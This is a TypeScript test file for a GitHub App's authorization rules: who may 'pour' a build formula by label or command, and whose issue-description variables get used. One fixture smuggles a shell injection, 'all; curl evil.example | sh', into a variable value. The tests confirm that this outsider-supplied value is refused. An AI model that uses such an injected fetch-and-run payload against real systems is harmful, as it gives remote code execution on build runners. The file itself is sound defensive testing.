/**
 * Who may pour through automation (issue 20, item 1), through the real App against the fake
 * GitHub: a labelling app needs only `issues: write` (triage level) to add `formula:<name>`, so
 * its label is checked like a person's — the collaborator permission of its login — unless the
 * login is listed under `trusted_labelers`. And a `mol-vars` block counts only when the issue's
 * author may pour: a writer's label does not vouch for an outsider's vars.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeState } from '../../src/engine/codec/decode.js';
import { type AppInstance, startAppInstance } from '../helpers/chaos/app-instance.js';
import { actorFor, type FakeGitHub, startFakeGitHub } from '../helpers/fake-github/index.js';
import { commentEvent, issueEvent } from '../helpers/fake-github/webhook-payloads.js';

/** A distributed formula: a pour dispatches the step workflow, which runs with a write token. */
const FORMULA = `formula = "build"
execution = "distributed"

[vars.target]
default = "all"

[[steps]]
id = "make"
run = 'make "$MOL_VAR_TARGET"'
`;

const VARS_BODY = 'Please build\n\n```mol-vars\ntarget = "all; curl evil.example | sh"\n```\n';

let gh: FakeGitHub;
let app: AppInstance;
const nonce = randomUUID().slice(0, 6);
const outsider = `outsider-${nonce}`;
const triager = `triager-${nonce}`;
const writer = `writer-${nonce}`;

beforeAll(async () => {
  gh = await startFakeGitHub({ owner: 'acme', repo: 'widgets', defaultBranch: 'main', appSlug: 'molecular' });
  gh.state.files.set('.github/formulas/build.formula.toml', FORMULA);
  gh.state.files.set('.github/workflows/molecular-step.yml', 'name: step\n');
  gh.state.files.set('.github/molecular.yml', 'trusted_labelers:\n  - triage-helper[bot]\n');
  gh.state.collaborators.set(triager, 'triage');
  gh.state.collaborators.set(writer, 'write');
  app = await startAppInstance(gh, { name: 'app' });
});

afterAll(async () => {
  await app.close();
  await gh.close();
});

function stateOf(issue: number) {
  const comment = [...gh.state.comments.values()].find(
    (c) =>
      c.issue_number === issue && c.user.login === 'molecular[bot]' && c.body.includes('molecular:state'),
  );
  if (!comment) return undefined;
  const decoded = decodeState(comment.body);
  if (!decoded.ok) throw new Error(`issue ${issue}: ${decoded.error.message}`);
  return decoded.value;
}

function repliesOn(issue: number): string {
  return [...gh.state.comments.values()]
    .filter(
      (c) =>
        c.issue_number === issue && c.user.login === 'molecular[bot]' && !c.body.includes('molecular:state'),
    )
    .map((c) => c.body)
    .join('\n');
}

const dispatchesFor = (issue: number) =>
  gh.state.workflowDispatches.filter((d) => String(d.inputs.molecule ?? '').startsWith(`${issue}-`)).length;

/** An issue opened by `author` with `body`, labelled `formula:build` by `labeller`. */
async function labelled(labeller: string, author = outsider, body: string | null = VARS_BODY) {
  const issue = gh.state.addIssue({ title: 'build it', user: actorFor(author), body }).number;
  const sent = await app.send('issues', issueEvent(gh, labeller, 'labeled', issue, 'formula:build'));
  expect(sent.status).toBe(200);
  return issue;
}

describe('a formula label added by an app', () => {
  it.each(['issue-labeler[bot]', 'github-actions[bot]'])(
    "%s labelling an outsider's issue is refused like a person without write: nothing poured, nothing dispatched, the remedy named",
    async (bot) => {
      const issue = await labelled(bot);
      expect(stateOf(issue)).toBeUndefined();
      expect(dispatchesFor(issue)).toBe(0);
      const reply = repliesOn(issue);
      expect(reply).toContain(`@${bot} could not pour`);
      expect(reply).toMatch(/needs \*\*write\*\* permission on acme\/widgets; you have \*\*no access\*\*/);
      expect(reply).toContain('`trusted_labelers`');
      expect(reply).toContain('.github/molecular.yml');
    },
  );

  it('an app listed under trusted_labelers pours, and its step is dispatched', async () => {
    const issue = await labelled('triage-helper[bot]', writer, null);
    const mol = stateOf(issue);
    expect(mol?.formula.name).toBe('build');
    expect(mol?.vars).toEqual({ target: 'all' });
    expect(dispatchesFor(issue)).toBe(1);
  });

  it("an app listed under trusted_labelers does not vouch for an outsider's mol-vars", async () => {
    const issue = await labelled('triage-helper[bot]');
    expect(stateOf(issue)).toBeUndefined();
    expect(dispatchesFor(issue)).toBe(0);
    expect(repliesOn(issue)).toContain(`the \`mol-vars\` block in the description is by @\u200b${outsider}`);
  });

  it('a triage person is refused as before', async () => {
    const issue = await labelled(triager, triager, null);
    expect(stateOf(issue)).toBeUndefined();
    expect(dispatchesFor(issue)).toBe(0);
    expect(repliesOn(issue)).toMatch(
      /needs \*\*write\*\* permission on acme\/widgets; you have \*\*triage\*\*/,
    );
  });
});

describe('vars written by someone who may not pour', () => {
  it("a writer's label on an outsider's issue with a mol-vars block is refused, naming the author and the remedy", async () => {
    const issue = await labelled(writer);
    expect(stateOf(issue)).toBeUndefined();
    expect(dispatchesFor(issue)).toBe(0);
    const reply = repliesOn(issue);
    expect(reply).toContain(`the \`mol-vars\` block in the description is by @\u200b${outsider}`);
    expect(reply).toContain('/mol pour build name=value');
  });

  it("a writer's label on an outsider's issue without a block pours with the formula's defaults", async () => {
    const issue = await labelled(writer, outsider, 'Please build');
    expect(stateOf(issue)?.vars).toEqual({ target: 'all' });
  });

  it("a writer's own mol-vars block is used", async () => {
    const issue = await labelled(writer, writer, '```mol-vars\ntarget = "docs"\n```\n');
    expect(stateOf(issue)?.vars).toEqual({ target: 'docs' });
  });

  it("/mol pour by a writer on an outsider's issue reads only the command's vars, and says the block was not read", async () => {
    const issue = gh.state.addIssue({ title: 'build it', user: actorFor(outsider), body: VARS_BODY }).number;
    const record = gh.state.addComment(issue, '/mol pour build target=docs', actorFor(writer));
    await app.send('issue_comment', commentEvent(gh, record.id));
    expect(stateOf(issue)?.vars).toEqual({ target: 'docs' });
    expect(repliesOn(issue)).toContain(`the \`mol-vars\` block in the description is by @\u200b${outsider}`);
  });

  it("an outsider's block that does not parse is not read either: a writer's /mol pour still pours", async () => {
    const body = '```mol-vars\ntarget: [not, a, string]\n```\n';
    const issue = gh.state.addIssue({ title: 'build it', user: actorFor(outsider), body }).number;
    const record = gh.state.addComment(issue, '/mol pour build target=docs', actorFor(writer));
    await app.send('issue_comment', commentEvent(gh, record.id));
    expect(stateOf(issue)?.vars).toEqual({ target: 'docs' });
  });
});
